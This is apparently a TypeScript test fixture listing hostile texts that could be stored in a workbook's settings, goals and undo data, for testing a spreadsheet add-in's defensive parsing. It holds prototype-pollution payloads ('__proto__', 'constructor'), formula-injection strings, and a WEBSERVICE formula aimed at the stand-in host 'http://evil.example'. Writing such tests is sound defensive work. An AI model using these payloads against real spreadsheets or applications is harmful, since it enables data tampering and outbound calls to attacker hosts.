/** What may stand where a workbook keeps things of ours; anybody can write there. */
export type HostileStored = Readonly<{ name: string; kind: 'settings' | 'goals' | 'undo'; text: string }>;

const formula = { kind: 'call', name: 'WEBSERVICE', arguments: [{ kind: 'text', value: 'http://evil.example' }] };
const harm = '"__proto__":{"harmed":1},"constructor":{"prototype":{"harmed":1}}';
const state = (step: unknown): string =>
  JSON.stringify({ version: 3, states: [{ titles: [], steps: [step], after: [], cells: [] }] });
const cell = (content: unknown, row: unknown = 0): unknown => ({
  kind: 'set-cells',
  title: 'KPIs',
  cells: [{ row, column: 0, content }],
});

const anything: readonly (readonly [string, string])[] = [
  ['nothing', ''],
  ['no JSON', '{'],
  ['a formula', '=1+1'],
  ['null', 'null'],
  ['a number', '1e999'],
  ['a list', '[[[[]]]]'],
  ['properties', `{"version":1,${harm}}`],
  ['deep lists', '['.repeat(100_000)],
  ['deep objects', `${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}`],
  ['a version of the future', '{"version":1e9}'],
  ['a version that is a text', '{"version":"1"}'],
  ['a long text', JSON.stringify('x'.repeat(1_000_000))],
  ['halves of pairs', '{"version":1,"language":"\\ud800"}'],
];

/** Every reader gets what belongs to the others too. */
export const storedTexts: readonly HostileStored[] = (
  [
    ...anything.flatMap(([name, text]) =>
      (['settings', 'goals', 'undo'] as const).map((kind) => ({ name, kind, text })),
    ),
    {
      name: 'definitions of properties',
      kind: 'settings',
      text: '{"version":1,"definitions":{"__proto__":"x","constructor":"y","CTR":"=1+1"}}',
    },
    {
      name: 'a definition that is a tree',
      kind: 'settings',
      text: JSON.stringify({ version: 1, definitions: { CTR: formula } }),
    },
    { name: 'shares beyond numbers', kind: 'settings', text: '{"version":1,"onTrack":1e999,"atRisk":-1e999}' },
    { name: 'a currency that is a formula', kind: 'settings', text: '{"version":1,"currency":"=1+1"}' },
    {
      name: 'a text that is a tree',
      kind: 'goals',
      text: JSON.stringify({
        version: 1,
        goals: [{ id: 'G1', aim: null, text: formula }],
        objectives: [],
        commitments: [],
        checkIns: [],
        snapshots: [],
      }),
    },
    {
      name: 'a goal of properties',
      kind: 'goals',
      text: `{"version":1,"goals":[{"id":"__proto__","aim":null,"text":"=1+1",${harm}}],"objectives":[],"commitments":[],"checkIns":[],"snapshots":[]}`,
    },
    { name: 'a cell that is a tree', kind: 'undo', text: state(cell(formula)) },
    { name: 'a cell at a place that is none', kind: 'undo', text: state(cell('x', -1)) },
    { name: 'a cell at a place beyond numbers', kind: 'undo', text: state(cell('x', 1e308)) },
    {
      name: 'a block of trees',
      kind: 'undo',
      text: state({ kind: 'set-block', title: 'x', block: { row: 0, column: 0, columns: [[formula]] } }),
    },
    { name: 'a sheet that is added', kind: 'undo', text: state({ kind: 'add-sheet', sheet: {}, place: null }) },
    { name: 'a step named like a property', kind: 'undo', text: state({ kind: 'constructor' }) },
    { name: 'lines without end', kind: 'undo', text: state({ kind: 'insert-rows', title: 'x', at: 0, count: 0 }) },
  ] as const
).map(({ name, kind, text }) => ({ name: `${kind}: ${name}`, kind, text }));
